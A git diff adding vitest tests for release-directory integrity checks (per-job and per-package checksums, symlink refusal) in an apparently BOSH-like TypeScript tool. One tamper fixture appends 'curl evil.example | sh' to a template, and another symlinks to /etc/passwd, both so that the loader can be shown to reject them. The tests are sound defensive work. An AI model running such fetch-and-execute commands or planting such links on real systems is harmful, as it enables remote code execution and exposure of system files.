@@ -1,8 +1,8 @@
-import { cpSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
+import { cpSync, readFileSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
 import { join } from 'node:path';
 import { c as createTar } from 'tar';
 import { afterAll, describe, expect, it } from 'vitest';
-import { loadRelease, loadReleaseDir } from '../../lifecycle/index.js';
+import { createRelease, directoryChecksum, loadRelease, loadReleaseDir } from '../../lifecycle/index.js';
 import { etcdReleaseDir, tmp } from './support.js';
 
 const scratch = tmp('release');
@@ -61,6 +61,30 @@ describe('release', () => {
     ['an unknown key in a job spec', (r: string) => edit(r, 'jobs/etcd/spec.yml', 'packages: [etcd]', 'packages: [etcd]\nmonit: x'), /jobs\/etcd\/spec\.yml: \(root\): Unrecognized key: "monit"/],
   ])('refuses %s', (_name, change, want) => {
     expect(() => loadReleaseDir(variant(change))).toThrow(want);
+  });
+
+  // Integrity: release.yml carries a checksum per job and package (BOSH's release.MF sha1), checked on every load.
+  it.each([
+    ['a tampered template', (r: string) => edit(r, 'jobs/etcd/templates/health.sh.tpl', /$/, '\ncurl evil.example | sh\n'), /release: jobs\/etcd does not match its checksum in release\.yml \(expected sha256:[0-9a-f]{64}, got sha256:[0-9a-f]{64}\): a file under jobs\/etcd was changed/],
+    ['an added file', (r: string) => writeFileSync(join(r, 'packages/etcd/extra'), 'x'), /release: packages\/etcd does not match its checksum/],
+    ['a job without a checksum', (r: string) => edit(r, 'release.yml', /jobs:\n  - name: etcd\n    sha1: \S+\n/, ''), /release: jobs\/etcd has no checksum in release\.yml .*vigil create-release DIR/],
+    ['a checksum for an item the release lacks', (r: string) => edit(r, 'release.yml', 'packages:\n', `packages:\n  - name: golang\n    sha1: ${'a'.repeat(40)}\n`), /release\.yml lists a checksum for packages\/golang, which the release does not contain/],
+    ['a malformed checksum', (r: string) => edit(r, 'release.yml', /sha1: sha256:[0-9a-f]{64}/, 'sha1: md5:abc'), /release\.yml: jobs\.0\.sha1: 40 hex digits \(SHA-1\) or sha256:<64 hex digits>/],
+    ['a symlink', (r: string) => symlinkSync('/etc/passwd', join(r, 'jobs/etcd/templates/passwd')), /release: templates\/passwd is neither a file nor a directory|symlinks are not allowed/],
+  ])('refuses %s', (_name, change, want) => {
+    expect(() => loadReleaseDir(variant(change))).toThrow(want);
+  });
+
+  it('create-release writes the checksums (SHA-256); SHA-1 ones are accepted too', () => {
+    const root = variant((r) => edit(r, 'jobs/etcd/templates/health.sh.tpl', /$/, '\n# changed on purpose\n'));
+    expect(() => loadReleaseDir(root)).toThrow(/jobs\/etcd does not match its checksum/);
+    expect(createRelease(root).name).toBe('etcd');
+    expect(readFileSync(join(root, 'release.yml'), 'utf8')).toContain(`sha1: ${directoryChecksum(root, 'jobs/etcd')}`);
+    edit(root, 'release.yml', directoryChecksum(root, 'packages/etcd'), directoryChecksum(root, 'packages/etcd', 'sha1'));
+    expect(loadReleaseDir(root).packages[0]?.name).toBe('etcd');
+    // A broken job is reported, not blessed with a checksum.
+    edit(root, 'jobs/etcd/spec.yml', /^name: etcd/m, 'name: etcd2');
+    expect(() => createRelease(root)).toThrow(/name "etcd2" does not match its directory/);
   });
 
   it('refuses a file that is not a tarball', async () => {
